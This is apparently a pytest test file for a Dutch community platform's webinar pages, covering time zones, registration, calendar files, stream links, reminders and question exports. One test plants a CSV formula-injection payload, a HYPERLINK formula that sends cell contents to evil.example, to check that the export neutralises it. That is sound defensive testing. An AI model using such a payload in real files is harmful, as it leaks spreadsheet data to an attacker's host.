"""Webinar pages over HTTP: scheduling in Dutch time, registration and the waiting list, the
calendar file, the stream link, reminders once, and exports."""

from datetime import UTC, datetime, timedelta

from icalendar import Calendar

from community.clock import utcnow
from community.extensions import db
from community.forum.models import Category
from community.webinars.models import LiveQuestion, Registration, Webinar
from tests.helpers import csv_rows, log_in, make_user, page_text, post_form


def client_for(app, email, roles=()):
    with app.app_context():
        make_user(name=email.split("@")[0].title(), email=email, roles=roles)
    client = app.test_client()
    log_in(client, email)
    return client


def test_organiser_schedules_in_dutch_time_and_it_is_stored_in_utc(app, login_as):
    client = app.test_client()
    with app.app_context():
        make_user(email="org@verbind.example", roles=("organiser",))
        category_id = db.session.scalar(db.select(Category.id).where(Category.slug == "signaleren"))
    log_in(client, "org@verbind.example")
    response = post_form(
        client,
        "/webinars/new",
        {
            "title": "Zomerwebinar over signaleren",
            "description": "Een uur over signalen bij jonge kinderen.",
            "starts_at": "2030-07-01T19:30",
            "ends_at": "2030-07-01T20:30",
            "capacity": "40",
            "related_course": "0",
            "related_category": str(category_id),
        },
    )
    assert response.status_code == 302
    with app.app_context():
        webinar = db.session.scalar(db.select(Webinar))
        assert webinar.starts_at == datetime(2030, 7, 1, 17, 30, tzinfo=UTC)  # CEST is UTC+2
    html = page_text(client.get(response.headers["Location"]))
    assert "ma 1 jul 2030, 19:30–20:30" in html  # weekday and year: it can be far away
    assert 'href="/forum/?category=signaleren"' in html


def test_end_before_start_is_refused_with_the_form_kept(app):
    client = client_for(app, "org@verbind.example", roles=("organiser",))
    response = post_form(
        client,
        "/webinars/new",
        {
            "title": "Webinar met verkeerde tijden",
            "description": "Tekst.",
            "starts_at": "2030-01-10T20:00",
            "ends_at": "2030-01-10T19:00",
            "capacity": "10",
        },
    )
    assert response.status_code == 422
    html = page_text(response)
    assert "Het einde moet na het begin liggen." in html
    assert 'value="Webinar met verkeerde tijden"' in html


def test_members_cannot_schedule(app):
    member = client_for(app, "lid@verbind.example")
    assert member.get("/webinars/new").status_code == 403


def test_registration_waiting_list_and_mails(app, webinar_id, mail_log):
    clients = [client_for(app, f"p{n}@verbind.example") for n in range(3)]
    url = f"/webinars/{webinar_id}"
    for client in clients:
        post_form(client, f"{url}/register", page=url)
    assert "Je staat op de wachtlijst." in page_text(clients[2].get(url))
    assert "op de wachtlijst" in mail_log.messages[-1]
    post_form(clients[0], f"{url}/cancel", page=url)
    assert "Je bent aangemeld." in page_text(clients[2].get(url))
    assert "Je bent aangemeld voor het webinar" in mail_log.messages[-1]
    assert "To: p2@verbind.example" in mail_log.messages[-1]


def test_calendar_file_parses_and_shows_local_time(app, client, webinar_id):
    with app.app_context():
        webinar = db.session.get(Webinar, webinar_id)
        webinar.starts_at = datetime(2030, 1, 15, 18, 30, tzinfo=UTC)
        webinar.ends_at = datetime(2030, 1, 15, 19, 30, tzinfo=UTC)
        db.session.commit()
    response = client.get(f"/webinars/{webinar_id}.ics")
    assert response.mimetype == "text/calendar"
    [event] = Calendar.from_ical(response.data).walk("VEVENT")
    start = event.decoded("DTSTART")
    assert (start.hour, start.minute) == (19, 30)  # CET is UTC+1 in January
    assert str(event.get("SUMMARY")) == "Samenwerken bij veiligheid"


def test_stream_link_only_for_registered_shortly_before(app, webinar_id):
    with app.app_context():
        webinar = db.session.get(Webinar, webinar_id)
        webinar.stream_url = "https://meet.example.org/geheim"
        webinar.starts_at = utcnow() + timedelta(minutes=10)
        db.session.commit()
    attendee = client_for(app, "a@verbind.example")
    outsider = client_for(app, "b@verbind.example")
    url = f"/webinars/{webinar_id}"
    post_form(attendee, f"{url}/register", page=url)
    assert "https://meet.example.org/geheim" in page_text(attendee.get(url))
    assert "https://meet.example.org/geheim" not in page_text(outsider.get(url))
    with app.app_context():
        db.session.get(Webinar, webinar_id).starts_at = utcnow() + timedelta(hours=3)
        db.session.commit()
    assert "https://meet.example.org/geheim" not in page_text(attendee.get(url))


def test_reminders_are_sent_once(app, runner, webinar_id, mail_log):
    attendee = client_for(app, "a@verbind.example")
    url = f"/webinars/{webinar_id}"
    post_form(attendee, f"{url}/register", page=url)
    first = runner.invoke(args=["webinars", "send-reminders"])
    assert "Reminders sent: 1" in first.output
    assert "Herinnering: het webinar" in mail_log.messages[-1]
    second = runner.invoke(args=["webinars", "send-reminders"])
    assert "Reminders sent: 0" in second.output
    with app.app_context():
        assert db.session.scalar(db.select(Registration.reminder_sent_at)) is not None


def test_moderators_export_the_questions(app, webinar_id):
    with app.app_context():
        author = make_user(email="vrager@verbind.example")
        db.session.add(
            LiveQuestion(
                webinar_id=webinar_id,
                author_id=author.id,
                client_token="x" * 10,
                text="Hoe koppelt Veilig Thuis terug?",
                votes=4,
                answered=True,
                reply="Binnen vijf werkdagen, meestal telefonisch.",
            )
        )
        db.session.commit()
    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
    csv_text = moderator.get(f"/webinars/{webinar_id}/questions.csv").get_data(as_text=True)
    assert "Hoe koppelt Veilig Thuis terug?" in csv_text and "ja" in csv_text
    markdown = moderator.get(f"/webinars/{webinar_id}/questions.md").get_data(as_text=True)
    assert "## Hoe koppelt Veilig Thuis terug?" in markdown
    attendee = client_for(app, "a@verbind.example")
    assert attendee.get(f"/webinars/{webinar_id}/questions.csv").status_code == 403


def test_question_export_turns_what_attendees_typed_into_text_not_formulas(app, webinar_id):
    hostile = '=HYPERLINK("https://evil.example/?d="&A1;"Klik hier")'
    with app.app_context():
        author = make_user(name="@SUM(1+1)", email="vrager@verbind.example")
        db.session.add(
            LiveQuestion(
                webinar_id=webinar_id,
                author_id=author.id,
                client_token="z" * 10,
                text=hostile,
                votes=3,
                answered=True,
                reply="+31 6 12345678 belt u terug",
            )
        )
        db.session.commit()
    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
    header, row = csv_rows(moderator.get(f"/webinars/{webinar_id}/questions.csv"))
    assert header[:3] == ["Vraag", "Gevraagd door", "Stemmen"]
    assert row[:5] == ["'" + hostile, "'@SUM(1+1)", "3", "ja", "'+31 6 12345678 belt u terug"]


def test_live_page_is_for_attendees(app, webinar_id):
    outsider = client_for(app, "b@verbind.example")
    response = outsider.get(f"/webinars/{webinar_id}/live")
    assert response.status_code == 302
    url = f"/webinars/{webinar_id}"
    post_form(outsider, f"{url}/register", page=url)
    assert 'aria-live="polite"' in page_text(outsider.get(f"{url}/live"))


def test_unanswered_questions_go_to_the_forum_once_and_are_linked(app, webinar_id):
    with app.app_context():
        author = make_user(email="vrager@verbind.example")
        for number, answered in enumerate([False, True, False]):
            db.session.add(
                LiveQuestion(
                    webinar_id=webinar_id,
                    author_id=author.id,
                    client_token=f"token-{number:04d}",
                    answered=answered,
                    text=f"Open vraag nummer {number} over terugkoppeling",
                )
            )
        db.session.commit()
    moderator = client_for(app, "mod@verbind.example", roles=("moderator",))
    live = f"/webinars/{webinar_id}/live"
    post_form(moderator, f"/webinars/{webinar_id}/questions/to-forum", page=live)
    post_form(moderator, f"/webinars/{webinar_id}/questions/to-forum", page=live)
    forum = page_text(moderator.get("/forum/?sort=newest"))
    assert forum.count("Open vraag nummer") == 2
    assert "Open vraag nummer 1" not in forum, "answered questions stay in the archive"
    html = page_text(moderator.get(live))
    assert html.count("Verder op het forum") == 2
    attendee = client_for(app, "a@verbind.example")
    response = post_form(attendee, f"/webinars/{webinar_id}/questions/to-forum", page="/webinars/")
    assert response.status_code == 403


def test_past_webinars_keep_a_readable_qa_archive(app, webinar_id):
    with app.app_context():
        webinar = db.session.get(Webinar, webinar_id)
        webinar.starts_at = utcnow() - timedelta(days=2)
        webinar.ends_at = utcnow() - timedelta(days=2) + timedelta(hours=1)
        webinar.recording_url = "https://video.example.org/opname"
        author = make_user(email="vrager@verbind.example")
        db.session.add(
            LiveQuestion(
                webinar_id=webinar_id,
                author_id=author.id,
                client_token="y" * 10,
                text="Wat als ouders de melding ontkennen?",
                answered=True,
            )
        )
        db.session.commit()
    member = client_for(app, "lezer@verbind.example")
    html = page_text(member.get(f"/webinars/{webinar_id}/live"))
    assert "Wat als ouders de melding ontkennen?" in html
    assert 'id="ask-form"' not in html
    assert "https://video.example.org/opname" in page_text(member.get(f"/webinars/{webinar_id}"))


def test_webinar_files_remind_an_hour_before_and_name_the_webinars(app, client, webinar_id):
    for url in (f"/webinars/{webinar_id}.ics", "/webinars/feed.ics"):
        calendar = Calendar.from_ical(client.get(url).data)
        assert str(calendar["PRODID"]) == "-//Verbind//Webinars//NL"
        [entry] = calendar.walk("VEVENT")
        [alarm] = entry.walk("VALARM")
        assert str(alarm["ACTION"]) == "DISPLAY"
        assert alarm.decoded("TRIGGER").total_seconds() == -3600
    feed = client.get("/webinars/feed.ics")
    again = client.get("/webinars/feed.ics", headers={"If-None-Match": feed.headers["ETag"]})
    assert again.status_code == 304
